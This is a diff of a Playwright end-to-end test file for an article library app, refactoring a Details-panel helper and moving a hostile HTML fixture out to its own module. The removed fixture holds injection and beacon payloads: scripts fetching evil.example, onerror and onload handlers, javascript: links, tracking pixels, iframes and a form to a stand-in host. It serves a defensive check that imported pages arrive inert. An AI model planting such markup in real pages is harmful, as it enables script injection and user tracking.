@@ -2,6 +2,7 @@ import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { APIRequestContext, Locator, Page } from '@playwright/test';
 import { expect, test, type RunningHost } from './support/browser-host';
+import { HOSTILE_HTML } from './support/hostile-page';
 
 // The article library end to end: import (dialog, folder, drag and drop), the report, metadata
 // editing, trash, search, links, and a hostile web page that must arrive as inert text.
@@ -26,30 +27,6 @@ const PAGE_HTML = `<!doctype html>
 <p>Mehr bei <a href="javascript:alert(1)">dieser Stelle</a> oder per <a href="mailto:desk@tass.example">E-Mail</a>.</p>
 <pre>Dauer:  3 Std.</pre>
 </article></body></html>`;
-
-const HOSTILE_HTML = `<!doctype html>
-<html><head><meta charset="utf-8">
-<title>Harmless looking page</title>
-<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
-<link rel="stylesheet" href="http://evil.example/style.css">
-<style>body { background: url(http://evil.example/style-bg.png) } @import url(http://evil.example/import.css);</style>
-<script>window.__hostileRan = true; fetch('http://evil.example/beacon');</script>
-<script src="http://evil.example/tracker.js"></script>
-<base href="http://evil.example/">
-</head><body onload="window.__hostileRan = true">
-<h1>Harmless looking page</h1>
-<p>First paragraph of the hostile page.</p>
-<img src="http://tracker.example/pixel.gif" width="1" height="1" alt="">
-<img src="x" onerror="window.__hostileRan = true" alt="broken">
-<iframe src="http://evil.example/frame"></iframe>
-<p style="background-image: url(http://evil.example/inline.png)">Second paragraph with an inline url() style.</p>
-<p><a href="javascript:window.__hostileRan = true">Click for more</a> and <a href="https://example.org/story">a real link</a>.</p>
-<svg onload="window.__hostileRan = true"><image href="http://evil.example/svg.png"/></svg>
-<object data="http://evil.example/object.swf"></object>
-<form action="http://evil.example/form"><input name="q" value="search"></form>
-<noscript><img src="http://evil.example/noscript.gif"></noscript>
-<p>Last paragraph of the hostile page.</p>
-</body></html>`;
 
 // ── helpers ────────────────────────────────────────────────────────────────────────────────────
 
@@ -81,8 +58,11 @@ function articleList(page: Page): Locator {
   return page.getByRole('listbox', { name: 'Articles' });
 }
 
-function details(page: Page): Locator {
-  return page.getByRole('complementary', { name: 'Details' });
+/** The article's metadata: the Article tab of the Details panel, brought to the front. */
+async function details(page: Page): Promise<Locator> {
+  const panel = page.getByRole('complementary', { name: 'Details' });
+  await panel.getByRole('tab', { name: 'Article' }).click();
+  return panel.getByRole('tabpanel', { name: 'Article' });
 }
 
 async function createArticle(page: Page, title: string, text: string) {
@@ -177,11 +157,13 @@ test('importing a folder shows progress, then a report with the failed file, and
     .getByRole('option', { name: /Lawrow besucht Teheran/ })
     .click();
   await expect(app.locator('h1')).toHaveText('Lawrow besucht Teheran');
-  await expect(details(app).getByLabel('Source', { exact: true })).toHaveValue('TASS');
-  await expect(details(app).getByLabel('Author', { exact: true })).toHaveValue('Irina Petrowa');
-  await expect(details(app).getByLabel('URL', { exact: true })).toHaveValue('https://tass.ru/politika/23201234');
-  await expect(details(app).getByLabel('Language', { exact: true })).toHaveValue('de');
-  await expect(details(app)).toContainText('b-page.html');
+  await expect((await details(app)).getByLabel('Source', { exact: true })).toHaveValue('TASS');
+  await expect((await details(app)).getByLabel('Author', { exact: true })).toHaveValue('Irina Petrowa');
+  await expect((await details(app)).getByLabel('URL', { exact: true })).toHaveValue(
+    'https://tass.ru/politika/23201234',
+  );
+  await expect((await details(app)).getByLabel('Language', { exact: true })).toHaveValue('de');
+  await expect(await details(app)).toContainText('b-page.html');
   const body = app.locator('.ProseMirror');
   await expect(body.locator('h3')).toHaveText('Themen');
   await expect(body.locator('ul li')).toHaveText(['Energie', 'Transport', 'Eisenbahn']);
@@ -296,7 +278,7 @@ test('Cancel stops an import after the current file and the report says what was
 
 test('metadata edits are validated, saved, and still there after a reload', async ({ app }) => {
   await createArticle(app, 'Kurzmeldung', 'Kurzmeldung\n\nIran wird sich im Atomstreit nicht beugen.');
-  const panel = details(app);
+  const panel = await details(app);
   const status = app.getByTestId('status-save');
 
   await panel.getByLabel('Title', { exact: true }).fill('Iran bleibt hart');
@@ -361,7 +343,7 @@ test('an imported text file can be decoded again with another encoding; pasted t
   const folder = writeFolder(join(dataDir, 'encodings'), { 'umlauts.txt': 'Grüße aus Köln\n\nDie Straße ist schön.' });
   await importThroughDialog(request, host, join(folder, 'umlauts.txt'));
   await closeReport(app);
-  const panel = details(app);
+  const panel = await details(app);
   const body = app.locator('.ProseMirror');
   await expect(body).toContainText('Die Straße ist schön.');
   await expect(panel).toContainText('utf-8');
